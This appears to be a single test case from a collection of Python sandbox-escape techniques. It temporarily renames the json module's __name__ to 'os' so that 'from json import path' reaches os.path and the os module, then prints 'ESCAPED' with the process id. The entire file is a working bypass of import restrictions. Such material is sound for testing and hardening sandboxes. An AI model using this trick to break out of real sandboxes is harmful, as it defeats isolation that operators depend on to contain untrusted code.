# technique: the same with a granted module, renamed
# goal: import
# source: CPython, import_from() in ceval.c
import json
name = json.__name__
try:
    json.__name__ = 'os'
    from json import path
    print('ESCAPED pid=%d' % path.os.getpid())
finally:
    json.__name__ = name
